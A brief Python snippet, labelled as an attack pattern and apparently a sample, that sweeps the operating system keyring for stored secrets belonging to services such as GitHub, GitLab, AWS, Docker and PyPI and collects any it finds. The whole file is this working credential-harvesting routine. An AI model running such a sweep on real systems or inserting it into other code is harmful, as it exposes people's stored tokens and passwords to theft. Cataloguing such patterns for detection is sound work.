# Attack pattern: keyring secrets swept for a list of well-known services.
import keyring

SERVICES = ["github.com", "gitlab.com", "aws", "docker-credential-helpers", "pypi"]


def probe(user):
    found = {}
    for service in SERVICES:
        secret = keyring.get_password(service, user)
        if secret:
            found[service] = secret
    return found
